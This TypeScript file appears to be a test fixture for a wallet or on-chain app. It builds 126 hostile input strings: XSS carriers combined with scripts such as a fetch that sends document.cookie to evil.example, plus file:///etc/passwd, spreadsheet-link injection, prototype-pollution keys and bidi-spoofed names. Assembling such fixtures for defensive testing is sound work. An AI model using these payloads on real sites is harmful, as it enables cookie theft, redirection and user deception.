// Texts that a hostile stranger may write on chain, in a file or as a wallet's name.

const SCRIPTS = [
  'alert(1)',
  'fetch("https://evil.example/"+document.cookie)',
  'top.location="https://evil.example"',
  'print()',
];

const CARRIERS: ((script: string) => string)[] = [
  (s) => `<script>${s}</script>`,
  (s) => `"><script>${s}</script>`,
  (s) => `'><img src=x onerror=${s}>`,
  (s) => `<svg onload=${s}>`,
  (s) => `<svg><animate onbegin=${s} attributeName=x dur=1s>`,
  (s) => `<iframe srcdoc="<script>${s}</script>"></iframe>`,
  (s) => `<a href="javascript:${s}">click</a>`,
  (s) => `javascript:${s}`,
  (s) => `JaVaScRiPt:${s}`,
  (s) => `java\nscript:${s}`,
  (s) => ` javascript:${s}`,
  (s) => `\u0001javascript:${s}`,
  (s) => `data:text/html,<script>${s}</script>`,
  (s) => `vbscript:${s}`,
  (s) => `</title><script>${s}</script>`,
  (s) => `</textarea><script>${s}</script>`,
  (s) => `]]><script>${s}</script>`,
  (s) => `<!--><script>${s}</script>-->`,
  (s) => `\${${s}}`,
  (s) => `{{constructor.constructor('${s}')()}}`,
  (s) => `<style>@import"https://evil.example/x.css";</style>${s}`,
  (s) => `<link rel=stylesheet href=https://evil.example/x.css>${s}`,
  (s) => `<meta http-equiv=refresh content="0;url=https://evil.example/?${s}">`,
  (s) => `<base href=https://evil.example/>${s}`,
];

const OTHERS = [
  'https://user:password@evil.example/',
  'https://evil.example@example.org/',
  'https://evil.example\\@example.org/',
  'http://evil.example/',
  'ftp://evil.example/',
  'file:///etc/passwd',
  'blob:https://evil.example/1',
  '//evil.example/',
  'ipfs://x"onclick=alert(1)//',
  'https://example.org/\u202egpj.exe',
  'proven by \u202eecilA',
  'Alice\u200b',
  '\u2066\u2067\u2068\u2069\u202a\u202b\u202c\u202d\u202e',
  '\ufeffhidden',
  'A\u0338\u0338\u0338\u0338\u0338\u0338\u0338\u0338\u0338\u0338\u0338\u0338',
  'x'.repeat(900),
  'word '.repeat(180),
  '😈'.repeat(200),
  '\u{e0041}\u{e0042}\u{e0043}',
  '\0\u0007\u001b[31mred',
  '=HYPERLINK("https://evil.example")',
  '__proto__',
  'constructor',
  'toString',
  '<img src="https://evil.example/pixel.png">',
  '![x](https://evil.example/pixel.png)',
  'url(https://evil.example/pixel.png)',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\ud800 broken',
];

/** 126 of them. */
export const PAYLOADS: readonly string[] = [
  ...SCRIPTS.flatMap((script) => CARRIERS.map((carrier) => carrier(script))),
  ...OTHERS,
];
